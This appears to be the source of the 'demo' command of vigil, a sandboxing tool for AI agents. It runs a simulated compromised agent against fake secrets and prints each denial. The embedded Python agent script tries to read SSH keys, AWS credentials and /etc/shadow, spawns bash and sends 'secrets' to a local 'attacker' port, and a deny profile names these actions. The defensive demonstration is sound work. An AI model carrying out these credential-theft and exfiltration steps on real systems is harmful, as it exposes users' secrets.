// vigil demo: a simulated compromised agent under a built-in profile, so a newcomer sees what
// vigil does in one minute: it tries credential theft, a shell escape and exfiltration, and
// does some honest work. Every denial is printed with the rule that decided it, from the real
// audit log of a real `vigil run` session. Nothing leaves the machine: all targets are local.
import { chmodSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';

import type { AuditLine } from '../sinks/audit-schema.js';
import { EXIT_CODES } from '../errors.js';
import { parseVerbArgs, requireRoot } from './args.js';
import { runCommand } from './run-command.js';

const HELP = `usage: vigil demo [--framework NAME] [--ui] [--ui-port N] [--keep]

Runs a simulated compromised agent under vigil (built-in profile, default generic, plus a
demo rule for an "attacker" port and for bash) in a throwaway HOME with fake secrets. It tries
to steal ~/.ssh and ~/.aws credentials and /etc/shadow, to escape to a shell, to exfiltrate
to a local "attacker" port and to open a raw socket, and does some allowed work. vigil prints
each denial with its rule. --ui serves the live UI meanwhile; --keep keeps the temp folder.`;

// The agent: each attempt in a child process, so a kill of one step leaves the agent going.
const AGENT = `import os, socket, subprocess, time, sys
home = os.environ["HOME"]
pause = float(os.environ.get("VIGIL_DEMO_PAUSE", "0"))
def step(title, argv):
    print(f"[agent] {title}", flush=True)
    r = subprocess.run(argv, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    print(f"        -> exit {r.returncode}", flush=True)
    time.sleep(pause)
def net(title, fn):
    print(f"[agent] {title}", flush=True)
    try:
        fn(); print("        -> sent", flush=True)
    except OSError as e:
        print(f"        -> {e.strerror}", flush=True)
    time.sleep(pause)
step("reads the project README (allowed)", ["cat", f"{home}/project/README.md"])
step("steals ~/.ssh/id_rsa", ["cat", f"{home}/.ssh/id_rsa"])
step("steals ~/.aws/credentials", ["cat", f"{home}/.aws/credentials"])
step("reads /etc/shadow", ["cat", "/etc/shadow"])
step("escapes to a shell", ["/bin/bash", "-c", "id"])
def exfil():
    s = socket.create_connection(("127.0.0.1", 4444), timeout=1); s.sendall(b"secrets")
net("exfiltrates to 127.0.0.1:4444", exfil)
def raw():
    socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
net("opens a raw ICMP socket", raw)
`;

function demoProfile(framework: string): string {
  return [
    'name: demo',
    `description: the ${framework} built-in, plus an attacker port and no bash`,
    `extends: ${framework}`,
    'denied_commands:',
    '  - bash',
    'denied_networks:',
    "  - '127.0.0.1/32:4444'",
    '',
  ].join('\n');
}

function target(l: AuditLine): string {
  switch (l.event) {
    case 'socket_create':
      return `${l.family} ${l.type}`;
    case 'net_connect':
    case 'udp_send':
      return `${l.dest_ip}:${l.dest_port}`;
    case 'file_open':
    case 'exec':
      return l.path;
    default:
      return '';
  }
}

export async function demoCommand(argv: string[]): Promise<number> {
  const { values } = parseVerbArgs('demo', argv, {
    framework: { type: 'string' },
    ui: { type: 'boolean' },
    'ui-port': { type: 'string' },
    keep: { type: 'boolean' },
    help: { type: 'boolean', short: 'h' },
  });
  if (values.help === true) {
    console.log(HELP);
    return 0;
  }
  requireRoot('demo');
  const framework = values.framework ?? 'generic';
  const dir = mkdtempSync(join(tmpdir(), 'vigil-demo-'));
  chmodSync(dir, 0o755);
  const home = join(dir, 'home');
  for (const d of ['.ssh', '.aws', 'project']) mkdirSync(join(home, d), { recursive: true });
  writeFileSync(join(home, '.ssh', 'id_rsa'), '-----BEGIN OPENSSH PRIVATE KEY----- (fake)\n');
  writeFileSync(join(home, '.aws', 'credentials'), '[default]\naws_secret_access_key = FAKE\n');
  writeFileSync(join(home, 'project', 'README.md'), '# a project\n');
  writeFileSync(join(dir, 'agent.py'), AGENT);
  writeFileSync(join(dir, 'demo.yaml'), demoProfile(framework));
  const log = join(dir, 'audit.jsonl');
  const savedHome = process.env.HOME;
  process.env.HOME = home;
  process.env.VIGIL_DEMO_PAUSE = values.ui === true ? '1.5' : '0';
  console.log(
    `vigil demo: a compromised agent runs under profile "demo" (the ${framework} built-in + 2 rules)\n`,
  );
  let status: number;
  try {
    const ui =
      values.ui === true
        ? ['--ui', ...(values['ui-port'] === undefined ? [] : ['--ui-port', values['ui-port']])]
        : [];
    status = await runCommand([
      '--profile',
      join(dir, 'demo.yaml'),
      '--audit-log',
      log,
      ...ui,
      '--',
      '/usr/bin/python3',
      join(dir, 'agent.py'),
    ]);
  } finally {
    if (savedHome === undefined) delete process.env.HOME;
    else process.env.HOME = savedHome;
  }
  const lines = readFileSync(log, 'utf8')
    .split('\n')
    .filter((l) => l !== '')
    .map((l) => JSON.parse(l) as AuditLine);
  const denied = lines.filter((l) => l.action === 'BLOCK' || l.action === 'KILL');
  const where = values.keep === true ? `audit log: ${log}` : 'run with --keep to keep the audit log';
  console.log(`\nwhat vigil decided (${denied.length} denials; ${where}):`);
  for (const l of denied) {
    const how =
      l.enforcement === 'inline'
        ? 'refused in the kernel (EPERM)'
        : l.event === 'exec'
          ? 'killed before its first instruction'
          : 'killed before it could use it';
    console.log(
      `  ${l.action.padEnd(5)} ${l.event.padEnd(13)} ${target(l).replace(home, '~').padEnd(28)} ${l.rule ?? ''}  [${l.backend}, ${how}]`,
    );
  }
  const allowed = lines.filter((l) => l.action === 'ALLOW').length;
  console.log(`  ${allowed} allowed actions went through (the agent's ordinary work).`);
  if (values.keep !== true) rmSync(dir, { recursive: true, force: true });
  if (denied.length === 0) {
    console.error('vigil demo: nothing was denied: enforcement is not working here; run `vigil doctor`');
    return EXIT_CODES.failure;
  }
  return status;
}
